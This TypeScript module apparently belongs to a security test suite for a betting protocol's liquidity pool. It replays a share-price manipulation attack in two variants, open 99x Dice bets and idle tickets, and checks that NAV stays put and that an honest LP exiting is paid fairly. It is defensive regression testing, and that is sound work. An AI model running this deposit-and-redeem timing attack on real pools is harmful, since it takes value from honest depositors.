// Finding 1: open exposure moved the LP share price. The attacker holds exposure open (unrevealed 99x Dice bets, or
// idle hard tickets that give their stake back), LP-deposits while it is held, lets it go (the bets lose, the tickets
// expire) and redeems. An honest LP leaving meanwhile is the victim. Gain = what the redemption paid beyond the
// deposit's pro-rata share of the plays that settled while it was held.
import { formatMicro, MICRO_PER_USDC } from '../../../protocol/money.ts';
import { Attacker, wallets } from '../attacker.ts';
import { deadlineSeconds, fillWithDice, hardTicketStake, staked } from '../exposure-fill.ts';
import { enterPool, holdings, redeemed, roundingTolerance, spent, unexplainedLpGain } from '../fair.ts';
import { usdc, type AttackResult } from '../report.ts';
import type { AttackContext } from '../suite.ts';
import { within, type Target } from '../target.ts';

const usd = (n: number): bigint => BigInt(n) * MICRO_PER_USDC;
const REDEEM_TIMEOUT_MS = 60_000;

/** Redeems every share of the trip and measures it against fair outcomes. */
async function leavePool(target: Target, w: Attacker, trip: Awaited<ReturnType<typeof enterPool>>) {
  const gameNetAfter = (await target.house()).gameNet;
  const usdcBefore = await w.usdcMicro();
  await w.lpRedeem(trip.shares);
  const out = await redeemed(w, usdcBefore, REDEEM_TIMEOUT_MS);
  if (!out) return null;
  const gameNetDelta = gameNetAfter - trip.gameNetBefore;
  return { ...out, gameNetDelta, unexplained: unexplainedLpGain({ ...trip, paid: out.paid, gameNetDelta }) };
}

export async function lpAroundOpenBets(ctx: AttackContext, r: AttackResult): Promise<void> {
  const { target, profile } = ctx;
  // An honest LP already in the pool, who asks to leave while the bets are open.
  const honest = await Attacker.create(target, { usdc: profile.honestLpDeposit });
  const honestTrip = await enterPool(target, honest, usd(profile.honestLpDeposit));

  const gamblers = await wallets(target, profile.gamblers, { usdc: profile.gamblerUsdc, arcade: profile.gamblerUsdc });
  const lp = await Attacker.create(target, { usdc: profile.lpAttackDeposit });
  const attacker = [...gamblers, lp];
  const before = await holdings(attacker);

  const houseBefore = await target.house();
  const bets = (await Promise.all(gamblers.map((g) => fillWithDice(target, g)))).map((f, i) => ({ g: gamblers[i]!, ...f }));
  const open = bets.flatMap((b) => b.bets.map((bet) => ({ g: b.g, bet })));
  const held = await target.house();
  r.notes.push(
    `${open.length} unrevealed 99x bets, ${usdc(staked(open.map((o) => o.bet)))} USDC staked (each wallet stopped by ${[...new Set(bets.map((b) => b.stoppedBy.reason ?? b.stoppedBy.code))].join(', ')}); open exposure ${usdc(held.openExposure)} of maxExposure ${usdc(held.maxExposure)}`,
    `NAV ${usdc(houseBefore.nav)} before the bets, ${usdc(held.nav)} while they are open (the issue's run: the share price fell to 0.8)`,
    `reveal deadlines signed: ${[...new Set(open.map((o) => deadlineSeconds(o.bet)))].join(', ')} s`,
  );
  r.checks.push({
    name: 'open bets do not move NAV',
    held: held.nav === houseBefore.nav,
    detail: `${usdc(houseBefore.nav)} → ${usdc(held.nav)}`,
  });

  // The honest LP leaves while the bets are open (the issue's run paid 809 of 1,000 USDC).
  const tolerance = await roundingTolerance(target);
  const honestOut = await leavePool(target, honest, honestTrip);
  if (!honestOut) r.blocked = `an honest LP's exit of ${profile.honestLpDeposit} USDC was not paid within ${REDEEM_TIMEOUT_MS / 1000} s`;
  else {
    r.checks.push({
      name: 'an honest LP leaving during the attack is paid its fair value (one share of rounding at most)',
      held: honestOut.unexplained >= -tolerance,
      detail: `paid ${usdc(honestOut.paid)} for ${usdc(honestTrip.deposit)} in ${honestOut.seconds.toFixed(1)} s (beyond fair outcomes: ${usdc(honestOut.unexplained)})`,
    });
  }

  // The attacker's deposit, priced while the bets are open.
  const trip = await enterPool(target, lp, usd(profile.lpAttackDeposit));
  r.notes.push(`LP deposit of ${usdc(trip.deposit)} USDC minted ${usdc(trip.shares)} shares (the issue's run: 1,279,654 for 1,000,000)`);
  let payouts = 0n;
  for (const { g, bet } of open) payouts += await g.reveal(bet);
  r.notes.push(`revealed: ${open.length} bets paid ${usdc(payouts)} USDC for ${usdc(staked(open.map((o) => o.bet)))} staked`);
  const out = await leavePool(target, lp, trip);
  if (!out) {
    r.blocked = `the attacker's own redemption was not paid within ${REDEEM_TIMEOUT_MS / 1000} s`;
    return;
  }
  r.notes.push(
    `redeemed for ${usdc(out.paid)} USDC in ${out.seconds.toFixed(1)} s; its share of the ${usdc(out.gameNetDelta)} USDC the house won meanwhile explains ${usdc(out.paid - trip.deposit - out.unexplained)} (the issue's run: +111,380)`,
  );
  const cost = spent(before, await holdings(attacker));
  r.cost = { usdcMicro: cost.usdcMicro, lamports: cost.lamports };
  r.gain.usdcMicro = out.unexplained;
}

export async function lpAroundIdleTickets(ctx: AttackContext, r: AttackResult): Promise<void> {
  const { target, profile } = ctx;
  const stake = await hardTicketStake(target);
  const stakeUsdc = Number(stake / MICRO_PER_USDC) + 1;
  const openers = await wallets(target, profile.idleTicketWallets, { usdc: stakeUsdc, arcade: stakeUsdc });
  const lp = await Attacker.create(target, { usdc: profile.lpIdleDeposit });
  const attacker = [...openers, lp];
  const before = await holdings(attacker);
  const houseBefore = await target.house();

  const opened = await Promise.all(openers.map((w) => w.openTicket('hard', formatMicro(stake))));
  // An open answered 503 and sent again may find its own ticket opened after all: ticket_active names it.
  const adopted = opened.filter((o) => o.body?.error?.details?.reason === 'ticket_active').length;
  if (adopted) r.notes.push(`${adopted} opens answered ticket_active for the wallet's own ticket: an earlier try answered 503 yet opened it`);
  const refused = opened.filter((o) => o.status !== 200 && o.body?.error?.details?.reason !== 'ticket_active');
  const held = await target.house();
  r.notes.push(
    `${opened.length - refused.length} idle hard tickets of ${usdc(stake)} USDC (full board ${usdc((stake * 2_534_400n) / 10_000n)} each${refused.length ? `; ${refused.length} refused: ${JSON.stringify(refused[0]!.body)}` : ''}); open exposure ${usdc(held.openExposure)} (the issue's run: 795 USDC of them filled maxExposure)`,
  );
  r.checks.push({
    name: 'idle tickets hold no exposure and do not move NAV',
    held: held.openExposure === 0n && held.nav === houseBefore.nav,
    detail: `exposure ${usdc(held.openExposure)}, NAV ${usdc(houseBefore.nav)} → ${usdc(held.nav)}`,
  });

  const trip = await enterPool(target, lp, usd(profile.lpIdleDeposit));
  const stillOpen = await Promise.all(openers.map(async (w) => (await w.get('/protocol/v1/sweeper/session')).body.activeTicket !== null));
  r.notes.push(`LP deposit of ${usdc(trip.deposit)} minted ${usdc(trip.shares)} shares with ${stillOpen.filter(Boolean).length} tickets still open`);
  // The tickets close idle and give their stakes back: the attack cost nothing but fees.
  const closed = await within(profile.ticketIdleMs + 30_000, async () =>
    (await Promise.all(openers.map(async (w) => (await w.get('/protocol/v1/sweeper/session')).body.activeTicket === null))).every(Boolean),
  );
  if (!closed) throw new Error(`the idle tickets were not closed within ${profile.ticketIdleMs + 30_000} ms`);
  const out = await leavePool(target, lp, trip);
  if (!out) {
    r.blocked = `the attacker's own redemption was not paid within ${REDEEM_TIMEOUT_MS / 1000} s`;
    return;
  }
  r.notes.push(`tickets closed idle, stakes back; redeemed for ${usdc(out.paid)} USDC (the issue's run: +22,324 on 100,000)`);
  const cost = spent(before, await holdings(attacker));
  r.cost = { usdcMicro: cost.usdcMicro, lamports: cost.lamports };
  r.gain.usdcMicro = out.unexplained;
  ctx.idleTicketWallets = openers;
}
